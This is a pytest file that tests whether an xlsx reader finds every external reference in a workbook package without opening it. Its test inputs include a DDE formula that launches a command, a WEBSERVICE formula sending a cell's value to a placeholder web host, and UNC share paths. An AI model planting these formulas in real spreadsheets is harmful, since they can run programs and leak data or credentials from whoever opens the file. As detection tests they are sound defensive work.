"""D2: whatever of a package points outside is found, by one walk over all relationships and in all
formulas; nothing of it is opened."""

from collections.abc import Mapping

import pytest

from pso_excel.xlsx.reader import read_workbook
from pso_excel.xlsx.workbook import Outside
from tests.xlsx.packages import RELATIONS, parts
from tests.xlsx.untrusted import (
    HEAD,
    ONE,
    PACKAGE,
    book_of,
    relationships,
    row,
    sheet_xml,
    with_parts,
    workbook_xml,
)

SHARE = "\\\\server\\share\\"
SHEET_RELS = "xl/worksheets/_rels/sheet1.xml.rels"


def leading(kind: str, target: str, source: str = SHEET_RELS, mode: str = "External") -> bytes:
    """A book in which one relationship of a part leads there."""
    base = kind if "/" in kind else f"{RELATIONS}/{kind}"
    mode = f' TargetMode="{mode}"' if mode else ""
    text = f'<Relationship Id="x" Type="{base}" Target="{target}"{mode}/>'
    return with_parts({source: f'{HEAD}<Relationships xmlns="{PACKAGE}">{text}</Relationships>'})


def formula(text: str) -> bytes:
    """A book with that formula in A1."""
    return book_of(sheet_xml(row(f'<c r="A1"><f>{text}</f><v>1</v></c>')))


def beside(after: str) -> bytes:
    """A book with that behind its rows."""
    return book_of(sheet_xml(row(ONE), after=after))


def named(text: str) -> bytes:
    """A book with a defined name of that meaning."""
    names = f'<definedNames><definedName name="a">{text}</definedName></definedNames>'
    return with_parts({"xl/workbook.xml": workbook_xml("ผล", extra=names)})


def listed(text: str) -> str:
    """A list of choices at B5 to B9."""
    return (
        '<dataValidations><dataValidation type="list" sqref="B5:B9">'
        f"<formula1>{text}</formula1></dataValidation></dataValidations>"
    )


X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
XM = "http://schemas.microsoft.com/office/excel/2006/main"
NEW_LIST = (
    f'<extLst><ext xmlns:x14="{X14}" xmlns:xm="{XM}"><x14:dataValidations>'
    '<x14:dataValidation type="list"><x14:formula1><xm:f>{}</xm:f></x14:formula1>'
    "<xm:sqref>C5</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst>"
)
EXTENDED = "http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"
CHART = (
    '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:f>{}</c:f>'
    "</c:chartSpace>"
)
PATH = "'[\\\\server\\x.xlsx]Sheet'!A1"

TOLD: Mapping[str, tuple[bytes, str, str, str]] = {
    "a picture on a share": (leading("image", SHARE + "a.png"), "pictures", "a.png (server)", "ผล"),
    "a picture of the web": (
        leading("image", "https://example.org/a.png"),
        "pictures",
        "a.png (example.org)",
        "ผล",
    ),
    "a picture of a drawing": (
        leading("image", "file:///\\\\server\\a.png", "xl/drawings/_rels/drawing1.xml.rels"),
        "pictures",
        "a.png (server)",
        "",
    ),
    "a picture of the theme": (
        leading("image", "//server/a.png", "xl/theme/_rels/theme1.xml.rels"),
        "pictures",
        "a.png (server)",
        "",
    ),
    "a linked object": (leading("oleObject", SHARE + "a.docx"), "objects", "a.docx (server)", "ผล"),
    "the data of a chart": (
        leading("oleObject", SHARE + "b.xlsx", "xl/charts/_rels/chart1.xml.rels"),
        "data",
        "b.xlsx (server)",
        "",
    ),
    "the source of a pivot table": (
        leading(
            "externalLinkPath",
            SHARE + "b.xlsx",
            "xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels",
        ),
        "data",
        "b.xlsx (server)",
        "",
    ),
    "anything in any folder": (
        leading("urn:x/whatever", "http://127.0.0.1:9/x", "anywhere/else/_rels/y.xml.rels"),
        "others",
        "x (127.0.0.1:9)",
        "",
    ),
    "a ribbon elsewhere": (
        leading("urn:x/ui/extensibility", SHARE + "ui.xml", "_rels/extra.rels"),
        "others",
        "ui.xml (server)",
        "",
    ),
    "a link to a share": (leading("hyperlink", SHARE + "a.pdf"), "links", "a.pdf (server)", "ผล"),
    "a link to a file": (
        leading("hyperlink", "file:///C:\\Users\\somchai\\a%20b.pdf"),
        "links",
        "a b.pdf",
        "ผล",
    ),
    "a link to a file beside": (leading("hyperlink", "หลักฐาน/a.pdf"), "links", "a.pdf", "ผล"),
    "a link that starts a program": (
        leading("hyperlink", "ms-word:ofe|u|https://example.org/a.docx"),
        "links",
        "a.docx",
        "ผล",
    ),
    "a target that climbs out": (
        leading("image", "../../../x.png", mode=""),
        "pictures",
        "x.png",
        "ผล",
    ),
    "a target of this computer that says it is inside": (
        leading("image", "file:///x.png", mode="Internal"),
        "pictures",
        "x.png",
        "ผล",
    ),
    "a mode that is none": (leading("image", "a.png", mode="external"), "pictures", "a.png", "ผล"),
    "a list on a share": (beside(listed(PATH)), "lists", "x.xlsx (server)", "ผล"),
    "a list of the newer kind": (
        beside(NEW_LIST.format(PATH)),
        "lists",
        "x.xlsx (server)",
        "ผล",
    ),
    "the second formula of a validation": (
        beside(
            listed("1").replace(
                "</dataValidation>", f"<formula2>{PATH}</formula2></dataValidation>"
            )
        ),
        "lists",
        "x.xlsx (server)",
        "ผล",
    ),
    "the formula of a condition": (
        beside(
            "<conditionalFormatting sqref='A1'><cfRule type='expression'>"
            f"<formula>{PATH}=1</formula></cfRule></conditionalFormatting>"
        ),
        "formulas",
        "x.xlsx (server)",
        "ผล",
    ),
    "a defined name": (named("'C:\\งบ\\[b.xlsx]S'!$A$1"), "names", "b.xlsx", ""),
    "a formula with a path": (formula(PATH), "formulas", "x.xlsx (server)", "ผล"),
    "a path spelled with numbers": (
        formula(PATH.replace("\\", "&#92;")),
        "formulas",
        "x.xlsx (server)",
        "ผล",
    ),
    "a formula with a name of another workbook": (
        formula("'file:///c:/b.xlsx'!rate"),
        "formulas",
        "b.xlsx",
        "ผล",
    ),
    "a formula that asks the web": (
        formula('_xlfn.WEBSERVICE("https://example.org/q?x="&amp;A2)'),
        "formulas",
        "WEBSERVICE q?x= (example.org)",
        "ผล",
    ),
    "a formula in small letters": (
        formula('webservice("https://example.org/q")'),
        "formulas",
        "WEBSERVICE q (example.org)",
        "ผล",
    ),
    "a formula that fetches a picture": (
        formula('_xlfn.IMAGE("https://example.org/a.png")'),
        "formulas",
        "IMAGE a.png (example.org)",
        "ผล",
    ),
    "a formula that asks a program": (formula("cmd|'/c calc'!A0"), "formulas", "cmd", "ผล"),
    "a link by a formula": (
        formula(f'HYPERLINK("{SHARE}a.pdf","ดู")'),
        "formulas",
        "a.pdf (server)",
        "ผล",
    ),
    "an address by a text": (
        formula(f'INDIRECT("{PATH}")'),
        "formulas",
        "x.xlsx (server)",
        "ผล",
    ),
    "the data of a chart by its formula": (
        with_parts({"xl/charts/chart1.xml": CHART.format(PATH)}),
        "data",
        "x.xlsx (server)",
        "",
    ),
    "what all links are relative to": (
        with_parts(
            {
                "_rels/.rels": relationships(
                    ("r1", "officeDocument", "xl/workbook.xml"),
                    ("r2", "extended-properties", "docProps/app.xml"),
                ),
                "docProps/app.xml": f'<Properties xmlns="{EXTENDED}"><Application>Microsoft Excel'
                f"</Application><HyperlinkBase>{SHARE}</HyperlinkBase></Properties>",
            }
        ),
        "links",
        "share (server)",
        "",
    ),
    "a picture of a note's drawing": (
        with_parts(
            {
                "xl/drawings/vmlDrawing1.vml": '<xml xmlns:v="urn:v">'
                f'<v:imagedata src="{SHARE}a.png"/></xml>'
            }
        ),
        "others",
        "a.png (server)",
        "",
    ),
    "a page that would be written elsewhere": (
        beside(
            f'<webPublishItems><webPublishItem destinationFile="{SHARE}a.htm"/></webPublishItems>'
        ),
        "others",
        "a.htm (server)",
        "ผล",
    ),
}

QUIET: Mapping[str, bytes] = {
    "a link to the web": leading("hyperlink", "https://drive.google.com/x?a=1"),
    "a link to mail": leading("hyperlink", "mailto:a@example.org"),
    "a link to a place of the book": leading("hyperlink", "#'ผล'!A1:B2", mode=""),
    "a link by a formula to the web": formula('HYPERLINK("https://example.org","ดู \\\\")'),
    "a link by a formula to a place": formula("HYPERLINK(\"#'ผล'!A1\",A2)"),
    "a table by its name": formula("SUM(Table1[[#All],[x]])"),
    "an address by a text of the book": formula("INDIRECT(\"'ผล'!A\"&amp;ROW())"),
    "a text that looks like a path": formula('IF(A2="\\\\server",1,2)'),
    "a list of the book": beside(listed("$A$1:$A$9")),
    "a picture and what it was made of": with_parts(
        {"xl/drawings/drawing1.xml": f'<x descr="{SHARE}a.png"/>'}
    ),
    "the folder the book was saved in": with_parts(
        {"xl/workbook.xml": workbook_xml("ผล", properties=f'<x url="{SHARE}"/>')}
    ),
    "a part that is no XML": with_parts({"xl/drawings/drawing1.xml": f"<{SHARE}"}),
}


@pytest.mark.parametrize(("data", "kind", "target", "sheet"), TOLD.values(), ids=TOLD)
def test_d2_what_points_outside_is_found(data: bytes, kind: str, target: str, sheet: str) -> None:
    [found] = read_workbook(data).outside
    assert (found.kind, found.target, found.sheet, found.number) == (kind, target, sheet, 1)


@pytest.mark.parametrize("data", QUIET.values(), ids=QUIET)
def test_d2_what_stays_inside_or_is_a_page_of_the_web_is_not(data: bytes) -> None:
    assert read_workbook(data).outside == ()


def test_d2_the_cell_is_found() -> None:
    link = f'<hyperlinks><hyperlink ref="B7:B8" r:id="x" xmlns:r="{RELATIONS}"/></hyperlinks>'
    content = parts(leading("hyperlink", SHARE + "a.pdf"))
    data = book_of(
        sheet_xml(row(ONE), after=link + listed(PATH)), {SHEET_RELS: content[SHEET_RELS]}
    )
    assert [(link.kind, link.cell) for link in read_workbook(data).outside] == [
        ("lists", "B5"),
        ("links", "B7"),
    ]
    assert read_workbook(formula(PATH)).outside[0].cell == "A1"


def test_d2_a_picture_of_a_drawing_is_told_at_its_sheet() -> None:
    data = with_parts(
        {
            SHEET_RELS: relationships(("d", "drawing", "../drawings/drawing1.xml")),
            "xl/drawings/drawing1.xml": "<x/>",
            "xl/drawings/_rels/drawing1.xml.rels": relationships(
                ("p", "image", "http://127.0.0.1:9/a.png")
            ).replace("Target=", 'TargetMode="External" Target='),
        }
    )
    assert [link.sheet for link in read_workbook(data).outside] == ["ผล"]


def test_d2_the_same_thing_many_times_is_counted() -> None:
    cells = "".join(f'<c r="{c}1"><f>{PATH}</f><v>1</v></c>' for c in "ABC")
    found = read_workbook(book_of(sheet_xml(row(cells)))).outside
    assert found == (Outside("formulas", "x.xlsx (server)", "ผล", "A1", 3),)
    many = "".join(
        f'<Relationship Id="r{n}" Type="{RELATIONS}/image" Target="http://h/{n}.png" '
        'TargetMode="External"/>'
        for n in range(1_000)
    )
    data = with_parts({SHEET_RELS: f'<Relationships xmlns="{PACKAGE}">{many}</Relationships>'})
    found = read_workbook(data).outside
    assert len(found) < 300
    assert sum(link.number for link in found) == 1_000


def test_d2_parts_are_what_they_are_used_as_in_any_folder() -> None:
    used = relationships(
        ("o", "oleObject", "../stuff/a.bin"),
        ("c", "control", "../stuff/b.xml"),
        ("p", "image", "../stuff/c.dat"),
    )
    extra = {
        SHEET_RELS: used,
        "xl/stuff/a.bin": b"\0",
        "xl/stuff/b.xml": "<x/>",
        "xl/stuff/c.dat": b"\0",
        "_rels/.rels": relationships(
            ("r1", "officeDocument", "xl/workbook.xml"), ("u", "ui/extensibility", "mine.xml")
        ),
        "mine.xml": "<customUI/>",
    }
    active = read_workbook(with_parts(extra)).active_content
    assert active == {"embedded": 1, "controls": 1, "pictures": 1, "ribbon": 1}
